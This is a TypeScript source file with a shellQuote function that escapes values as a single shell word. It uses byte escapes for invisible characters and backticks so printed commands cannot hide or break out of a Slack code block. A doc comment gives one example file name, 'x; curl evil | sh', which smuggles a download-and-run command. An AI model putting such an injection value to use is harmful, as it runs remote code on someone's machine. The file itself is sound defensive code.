import { hasInvisible } from './invisible.js';

const BARE = /^[A-Za-z0-9_@%+=:,./-]+$/;

/**
 * Quotes a value as one shell word for bash and POSIX sh. A file named
 * `x; curl evil | sh` stays one argument.
 *
 * Values with control or invisible characters, or a backtick, use bash's `$'...'`
 * with byte escapes: the command then shows exactly what runs (no hidden
 * right-to-left override), and contains no backtick that could end the Slack code
 * block it is printed in.
 */
export function shellQuote(value: string): string {
  if (BARE.test(value) && !value.startsWith('-')) return value;
  const needsAnsiC = hasInvisible(value) || /[`\t\n\r]/.test(value);
  if (!needsAnsiC) return `'${value.replace(/'/g, `'\\''`)}'`;
  let out = '';
  for (const ch of value) {
    if (ch === '\\') out += '\\\\';
    else if (ch === "'") out += "\\'";
    else if (ch === '\n') out += '\\n';
    else if (ch === '\t') out += '\\t';
    else if (ch === '\r') out += '\\r';
    else if (ch === '`' || hasInvisible(ch)) out += bytesEscape(ch);
    else out += ch;
  }
  return `$'${out}'`;
}

/** UTF-8 bytes as \xHH: unlike \u, independent of the reader's locale. */
function bytesEscape(ch: string): string {
  return [...Buffer.from(ch, 'utf8')].map((b) => `\\x${b.toString(16).padStart(2, '0')}`).join('');
}
